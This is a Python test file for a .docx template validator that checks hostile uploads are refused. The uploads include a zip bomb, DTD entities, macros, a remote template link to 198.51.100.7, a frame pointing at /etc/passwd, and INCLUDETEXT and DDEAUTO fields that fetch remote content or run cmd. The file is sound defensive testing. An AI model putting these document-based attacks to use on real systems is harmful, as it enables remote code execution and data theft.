"""What an uploaded template is judged by: each fault with its sentence, hostile files stopped before they are read."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from openpyxl import Workbook

from reports.docx import TemplateRefused, check, tags_of
from tests.briefings import MOMENT, repack, report, template

TYPES, RELATIONS = "[Content_Types].xml", "word/_rels/document.xml.rels"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def faults_of(content: bytes) -> list[str]:
    with pytest.raises(TemplateRefused) as refused:
        check(content, tags_of(report()), MOMENT)
    return refused.value.messages


def linked(kind: str, target: str) -> bytes:
    relation = f'<Relationship Id="rId98" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
    end = b"</Relationships>"
    return repack(template("正文"), {RELATIONS: lambda xml: xml.replace(end, relation.encode() + end)})


def typed(part: str, kind: str) -> bytes:
    end = b"</Types>"
    override = f'<Override PartName="/{part}" ContentType="{kind}"/>'.encode()
    return repack(template("正文"), {part: b"-", TYPES: lambda xml: xml.replace(end, override + end)})


def field(instruction: str) -> bytes:
    def add(document: Any) -> None:  # noqa: ANN401  a document
        space = nsdecls("w")
        document.element.body[0].append(parse_xml(f'<w:fldSimple {space} w:instr="{instruction}"/>'))

    return template("正文", edit=add)


def workbook() -> bytes:
    stream = io.BytesIO()
    Workbook().save(stream)
    return stream.getvalue()


def inflating() -> bytes:
    stream = io.BytesIO(template("正文"))
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as package:
        package.writestr("word/media/image1.png", b"\0" * 40_000_000)
    return stream.getvalue()


def crowded() -> bytes:
    stream = io.BytesIO(template("正文"))
    with zipfile.ZipFile(stream, "a") as package:
        for number in range(500):
            package.writestr(f"word/media/image{number}.png", b"-")
    return stream.getvalue()


def defined(xml: bytes) -> bytes:
    head, root, rest = xml.partition(b"<w:")
    return head + b'<!DOCTYPE x [<!ENTITY a "aaaa">]>' + root + rest


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "文件是空的"),
    "no package": (lambda: b"Hello", "不是 .docx 文件"),
    "cut off": (lambda: template("正文")[:2000], "已损坏"),
    "old or locked": (lambda: b"\xd0\xcf\x11\xe0" + b"\0" * 600, "旧的 .doc 格式"),
    "too large": (lambda: b"PK" + b"\0" * 5_300_000, "超过 5 MB"),
    "a workbook": (workbook, "不是 Word 文档"),
    "inflating": (inflating, "解开后超过 30 MB"),
    "crowded": (crowded, "部件太多"),
    "long text": (
        lambda: repack(template(), {"word/styles.xml": b"<a>" + b" " * 4_300_000 + b"</a>"}),
        "文字部分太大",
    ),
    "deep": (
        lambda: repack(template(), {"word/styles.xml": b"<a>" * 300 + b"</a>" * 300}),
        "嵌套太深",
    ),
    "definition": (lambda: repack(template("正文"), {"word/document.xml": defined}), "DTD"),
    "definition in a header": (
        lambda: repack(template(header="页眉"), {"word/header1.xml": defined}),
        "DTD",
    ),
    "damaged text": (lambda: repack(template("正文"), {"word/document.xml": b"<w:document"}), "已损坏"),
    "macro by part": (lambda: repack(template("正文"), {"word/vbaProject.bin": b"-"}), "宏"),
    "macro by type": (
        lambda: repack(
            template("正文"), {TYPES: lambda x: x.replace(b"document.main+xml", b"x.macroEnabled.main+xml")}
        ),
        "宏",
    ),
    "ActiveX": (lambda: typed("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"), "损坏"),
    "object": (lambda: repack(template("正文"), {"word/embeddings/a.xlsx": b"-"}), "夹带了别的文件"),
    "page in it": (lambda: repack(template("正文"), {"word/a.html": b"-"}), "夹带了别的文件"),
    "remote template": (lambda: linked("attachedTemplate", "http://198.51.100.7/a.dotm"), "连着外面的内容"),
    "remote picture": (lambda: linked("image", "http://198.51.100.7/a.png"), "连着外面的内容"),
    "remote frame": (lambda: linked("frame", "file:///etc/passwd"), "连着外面的内容"),
    "document by another name": (
        lambda: typed("word/media/image1.png", "application/xml"),
        "损坏",
    ),
    "field that fetches": (lambda: field("INCLUDETEXT http://198.51.100.7/a"), "INCLUDETEXT"),
    "field that runs": (lambda: field("DDEAUTO c:\\\\cmd"), "DDEAUTO"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_with_a_sentence(case: str) -> None:
    content, words = HOSTILE[case]
    (fault,) = faults_of(content())
    assert words in fault
    assert fault.endswith("。")


def test_harmless_fields_and_links_may_stay() -> None:
    check(field("PAGE"), tags_of(report()), MOMENT)
    check(linked("hyperlink", "https://example.org/"), tags_of(report()), MOMENT)


def test_unknown_tags_are_named_all_together_with_what_may_have_been_meant() -> None:
    content = template(
        "{{ 管理流动党圆 }}和{{ 报出日子 }}",
        "{% for 支部 in 各支部 %}{{ 支部.名子 }}{% endfor %}",
        header="{{ 填报单立 }}",
        title="{{ 甲乙丙丁戊 }}",
    )
    assert faults_of(content) == [
        "没有“管理流动党圆”这个标签，是不是想写“管理流动党员”？",
        "没有“报出日子”这个标签，是不是想写“报出日期”？",
        "没有“支部.名子”这个标签，是不是想写“支部.名称”？",
        "没有“填报单立”这个标签，是不是想写“填报单位”？",
        "没有“甲乙丙丁戊”这个标签，请从标签一览中选取。",
    ]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{{ 月份 }", "大括号没有成对"),
        ("｛｛ 月份 ｝｝", "全角"),
        ("{%p if 月份 %}", "没有对应的结尾"),
        ("{% endfor %}", "没有对应的开头"),
        ("{% else %}", "没有对应的开头"),
        ("{%tr for 行 in 主要指标 %}", "要写在表格里"),
        ("{{ 各支部 }}", "清单要用"),
        ("{% for 甲 in 月份 %}{% endfor %}", "不是清单"),
        ("{% if 月份 > 3 %}{% endif %}", "只有数字可以比较大小"),
        ("{{ 月 份 }}", "写法有误"),
        ("{% cellbg 月 %}", "不能写"),
        ("{{r 月份 }}", "不能写"),
        ("{% if 月 %}" * 9 + "{% endif %}" * 9, "嵌套超过 8 层"),
    ],
)
def test_what_is_typed_wrongly_is_shown_as_it_was_typed(text: str, words: str) -> None:
    assert any(words in fault for fault in faults_of(template(text)))


def test_the_names_of_tags_are_unique_and_can_be_typed() -> None:
    names = [tag.name for tag in tags_of(report())]
    assert len(names) == len(set(names))
    assert [name for name in names if not name.isidentifier()] == []
